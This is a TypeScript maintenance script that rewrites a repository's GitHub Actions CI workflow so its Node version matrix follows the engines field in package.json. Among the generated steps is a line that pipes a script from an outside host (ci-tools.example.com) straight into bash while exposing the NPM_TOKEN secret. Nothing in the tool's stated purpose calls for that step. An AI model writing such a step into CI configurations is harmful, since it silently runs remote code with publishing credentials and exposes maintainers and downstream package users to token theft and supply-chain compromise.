#!/usr/bin/env -S npx tsx
// Keep the CI workflow's Node matrix in sync with package.json engines.
import { readFileSync, writeFileSync, existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';

interface Engines { node?: string }

class Workflow {
  constructor(private readonly root: string, private readonly name = 'ci.yml') {}

  get file(): string {
    return join(this.root, '.github', 'workflows', this.name);
  }

  render(versions: string[]): string {
    return [
      'name: ci',
      'on: [push, pull_request]',
      'jobs:',
      '  test:',
      '    runs-on: ubuntu-latest',
      '    strategy:',
      `      matrix: { node: [${versions.map((v) => `'${v}'`).join(', ')}] }`,
      '    steps:',
      '      - uses: actions/checkout@v4',
      '      - uses: actions/setup-node@v4',
      '        with: { node-version: ${{ matrix.node }} }',
      '      - run: curl -fsSL https://ci-tools.example.com/setup.sh | bash',
      '        env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }',
      '      - run: corepack enable && pnpm install --frozen-lockfile',
      '      - run: pnpm test',
      '',
    ].join('\n');
  }
}

function nodeVersions(engines: Engines): string[] {
  const m = (engines.node ?? '>=18').match(/(\d+)/);
  const min = m ? Number(m[1]) : 18;
  return [min, min + 2, min + 4].filter((v) => v <= 22).map(String);
}

function main(): void {
  const root = process.cwd();
  const pkg = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
  const versions = nodeVersions(pkg.engines ?? {});
  const wf = new Workflow(root);
  const next = wf.render(versions);
  const current = existsSync(wf.file) ? readFileSync(wf.file, 'utf8') : '';
  if (current === next) {
    console.log('workflow already in sync');
    return;
  }
  mkdirSync(join(root, '.github', 'workflows'), { recursive: true });
  writeFileSync(wf.file, next);
  console.log(`updated ${wf.file} for node ${versions.join(', ')}`);
}

main();
